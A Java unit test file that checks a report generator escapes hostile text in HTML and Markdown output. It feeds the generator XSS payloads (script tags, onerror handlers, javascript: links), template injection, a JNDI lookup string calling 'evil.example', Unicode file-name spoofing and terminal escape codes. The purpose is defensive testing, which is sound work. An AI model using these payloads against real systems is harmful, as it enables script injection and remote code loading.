package org.lazaretto.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Attr;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;

class HostileTextTest {
  private static final Set<String> ATTRIBUTES =
      Set.of(
          "aria-label",
          "charset",
          "class",
          "content",
          "cx",
          "cy",
          "height",
          "http-equiv",
          "lang",
          "name",
          "r",
          "role",
          "rx",
          "style",
          "viewBox",
          "width",
          "x",
          "x1",
          "x2",
          "y",
          "y1",
          "y2");

  private final Reports reports = new Reports();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "</style><img src=x onerror=alert(1)>",
        "\"onmouseover=\"alert(1)",
        "' onfocus='alert(1)",
        "{{ r.cover }}{% include 'x' %}",
        "${jndi:ldap://evil.example}",
        "]]><!--",
        "&#60;script&#62;",
        "\u202egnp.exe",
        "\u001b[2J\u001b]0;owned\u0007",
        "a\u200bb\u0000c",
        "line\n# heading\r\n| cell |"
      })
  void no_text_becomes_markup_in_html(String text) throws Exception {
    String html = reports.html(IncidentReport.of(HostileCase.of(text)));

    Element root = Xml.parse(html);
    assertThat(html).doesNotContain("<script").doesNotContain("<img");
    assertThat(html.codePoints().filter(HostileTextTest::hidden)).isEmpty();
    assertThat(attributes(root)).isSubsetOf(ATTRIBUTES);
    assertThat(root.getElementsByTagName("h1").item(0).getTextContent())
        .isEqualTo(Visible.text(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "x](javascript:alert(1)",
        "![x](data:image/png;base64,AAAA)",
        "a | b | c",
        "a\\|b",
        "``` ` `` |",
        "`</code><script>",
        "\u202egnp.exe",
        "\u001b[2J",
        "line\n# heading\n\n- item\r\n| cell |",
        "https://evil.example/x"
      })
  void no_text_becomes_markup_in_markdown(String text) {
    String markdown = reports.markdown(IncidentReport.of(HostileCase.of(text)));

    assertThat(markdown.codePoints().filter(HostileTextTest::hidden)).isEmpty();
    String outsideCode = withoutCode(markdown);
    assertThat(outsideCode)
        .doesNotContain("<")
        .doesNotContainPattern("(?<!\\\\)\\]\\(")
        .doesNotContainPattern("(?<!\\\\)://");
    assertThat(brokenRows(markdown)).isEmpty();
    assertThat(outsideCode).doesNotContain("\n# heading").doesNotContain("\n- item");
  }

  private static boolean hidden(int c) {
    return c != '\n' && !Visible.text(Character.toString(c)).equals(Character.toString(c));
  }

  private static Set<String> attributes(Element element) {
    Set<String> names = new TreeSet<>();
    for (int i = 0; i < element.getAttributes().getLength(); i++) {
      names.add(((Attr) element.getAttributes().item(i)).getName());
    }
    NodeList children = element.getChildNodes();
    for (int i = 0; i < children.getLength(); i++) {
      Node child = children.item(i);
      if (child instanceof Element inside) {
        names.addAll(attributes(inside));
      }
    }
    return names;
  }

  private static String withoutCode(String markdown) {
    return markdown
        .replaceAll("(?ms)^(`{3,})text\\n.*?\\n\\1$", "")
        .replaceAll("(?<!`)(?<!\\\\)(`+)(?!`).*?(?<!`)\\1(?!`)", "");
  }

  /** Rows of a table that have more or fewer cells than its head. */
  private static List<String> brokenRows(String markdown) {
    List<String> broken = new ArrayList<>();
    int cells = 0;
    for (String line : markdown.split("\n", -1)) {
      if (!line.startsWith("|")) {
        cells = 0;
        continue;
      }
      int found = line.replaceAll("\\\\(.)", "").split("\\|", -1).length;
      if (cells != 0 && found != cells) {
        broken.add(line);
      }
      cells = cells == 0 ? found : cells;
    }
    return broken;
  }
}
